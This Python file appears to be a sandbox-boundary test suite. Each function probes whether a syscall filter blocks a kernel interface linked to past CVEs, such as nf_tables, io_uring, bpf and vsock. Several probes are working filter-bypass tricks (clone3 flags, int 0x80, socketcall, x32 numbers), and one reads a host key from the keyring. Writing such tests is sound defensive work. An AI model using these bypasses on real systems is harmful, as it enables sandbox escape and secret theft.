"""System calls that a boundary drawn by a filter keeps away: each a door of kernel vulnerabilities in the past."""


def reached(function):
    """The kernel's id when `function` got from it what it asked for."""
    function()
    return this_kernel()


@attack("userns-nftables")
def userns_nftables():
    """CVE-2024-1086, CVE-2023-32233: root of a user namespace speaks to the packet filter."""
    def speak():
        libc("unshare", CLONE_NEWUSER | CLONE_NEWNET)
        filter_socket = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
        filter_socket.settimeout(3)
        # NFT_MSG_GETGEN of subsystem nf_tables (10): the number of its present rule set.
        filter_socket.send(struct.pack("IHHII", 20, (10 << 8) | 16, 1, 1, 0) + struct.pack("BBH", 0, 0, 0))
        answer = filter_socket.recv(4096)
        kind = struct.unpack_from("H", answer, 4)[0]
        return this_kernel() if kind >> 8 == 10 else f"answer {kind}"
    return in_child(speak)


@attack("userns-clone3")
def userns_clone3():
    """Namespace flags where a filter cannot see them: in the memory that clone3 is given."""
    arguments = ctypes.create_string_buffer(struct.pack("11Q", CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0))
    before = os.readlink("/proc/self/ns/user")
    ours, theirs = os.pipe()
    child = call("clone3", arguments, 88)
    if child == 0:
        if os.readlink("/proc/self/ns/user") != before:
            os.write(theirs, this_kernel().encode())
        os._exit(0)
    os.waitpid(child, 0)
    os.close(theirs)
    return os.read(ours, 64).decode() or "the namespace is the old one"


@attack("userns-unshare")
def userns_unshare():
    """A user namespace by each of the other calls that make one."""
    def by_unshare():
        libc("unshare", CLONE_NEWUSER)
        return this_kernel()

    def by_clone():
        number = 56 if X86 else 220
        child = LIBC.syscall(ctypes.c_long(number), ctypes.c_long(CLONE_NEWUSER | 17), None, None, None, None)
        if child == 0:
            os._exit(0)
        if child < 0:
            raise OSError(ctypes.get_errno(), "clone")
        os.waitpid(child, 0)
        return this_kernel()
    return first(lambda: in_child(by_unshare), by_clone)


@attack("io-uring")
def io_uring():
    """CVE-2022-29582, CVE-2023-2598: a ring, whose requests pass every filter."""
    return reached(lambda: call("io_uring_setup", 4, ctypes.create_string_buffer(120)))


@attack("aio")
def aio():
    return reached(lambda: call("io_setup", 1, ctypes.byref(ctypes.c_ulong(0))))


@attack("bpf")
def bpf():
    """CVE-2021-3490, CVE-2022-23222: an array map of one element."""
    return reached(lambda: call("bpf", 0, ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1) + bytes(112)), 128))


@attack("perf-events")
def perf_events():
    """CVE-2023-6931: a counter of the processor's clock."""
    setting = struct.pack("IIQ", 1, 112, 0) + bytes(96)
    return reached(lambda: call("perf_event_open", ctypes.create_string_buffer(setting), 0, -1, -1, 0))


@attack("userfaultfd")
def userfaultfd():
    """A fault that waits for us holds the kernel in the middle of what it does."""
    return reached(lambda: call("userfaultfd", 0))


@attack("keyring")
def keyring():
    """Keys are not in any namespace but the user's: the host's by its name, and by its number."""
    buffer = ctypes.create_string_buffer(256)

    def payload(key):
        size = call("keyctl", 11, key, buffer, 256, 0)
        return buffer.raw[:size].decode("latin1")

    def by_name(ring):
        return payload(call("keyctl", 10, ring, b"user", CFG["keyName"].encode(), 0))
    return first(lambda: payload(CFG["key"]), *[lambda ring=ring: by_name(ring) for ring in (-3, -4, -5)])


@attack("af-alg")
def af_alg():
    """CVE-2026-31431: the kernel's ciphers by socket."""
    def hashed():
        with socket.socket(38, socket.SOCK_SEQPACKET) as algorithm:
            algorithm.bind(("hash", "sha256"))
            operation, _ = algorithm.accept()
            operation.send(b"")
            return this_kernel() if len(operation.recv(32)) == 32 else "no hash"
    return hashed()


@attack("af-vsock")
def af_vsock():
    """vsock is in no namespace: a socket for it is one to whatever the host is itself a guest of."""
    return reached(lambda: socket.socket(40, socket.SOCK_STREAM))


@attack("af-packet")
def af_packet():
    """CVE-2020-14386: raw packets."""
    return reached(lambda: socket.socket(17, socket.SOCK_RAW, 768))


def machine_code(code):
    """Runs machine code that follows the C convention, in memory below 4 GiB."""
    memory = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
    memory.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return memory, address, ctypes.CFUNCTYPE(ctypes.c_int)(address)


@attack("int80")
def int80():
    """The 32-bit entry: other numbers, which a filter of 64-bit ones does not know."""
    if not X86:
        return "not on this architecture"
    memory, _, get_pid = machine_code(bytes([0x53, 0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0x5B, 0xC3]))
    same = get_pid() == os.getpid()
    return this_kernel() if memory and same else "another answer"


@attack("int80-sockets")
def int80_sockets():
    """AF_VSOCK and AF_ALG through socketcall, where a filter sees a pointer in place of the family."""
    if not X86:
        return "not on this architecture"

    def open_socket(family, kind):
        # push rbx; mov eax,102; mov ebx,1 (socket); mov ecx,arguments; int 0x80; pop rbx; ret
        memory, address, run = machine_code(bytes(64))
        where = address + 32
        if where >= 1 << 32:
            raise OSError(0, "no memory below 4 GiB")
        code = bytes([0x53, 0xB8, 102, 0, 0, 0, 0xBB, 1, 0, 0, 0, 0xB9]) + struct.pack("I", where) + bytes([0xCD, 0x80, 0x5B, 0xC3])
        memory.seek(0)
        memory.write(code.ljust(32, b"\0") + struct.pack("III", family, kind, 0))
        handle = run()
        if handle < 0:
            raise OSError(-handle, "socketcall")
        opened = socket.socket(fileno=handle)
        return this_kernel() if opened.family == family else f"family {opened.family}"
    return first(lambda: open_socket(40, 1), lambda: open_socket(38, 5))


@attack("x32")
def x32():
    """The x32 numbers: the same code of the kernel with bit 30 set."""
    pid = LIBC.syscall(ctypes.c_long(0x40000000 | 39))
    return this_kernel() if pid == os.getpid() else "another answer"


@attack("modify-ldt")
def modify_ldt():
    """CVE-2014-4699's class: a segment table of one's own."""
    if not X86:
        return "not on this architecture"
    entry = ctypes.create_string_buffer(struct.pack("IIII", 0, 0, 0xFFFFF, 0b1010001))
    return reached(lambda: libc("syscall", ctypes.c_long(154), ctypes.c_long(1), entry, ctypes.c_long(16)))
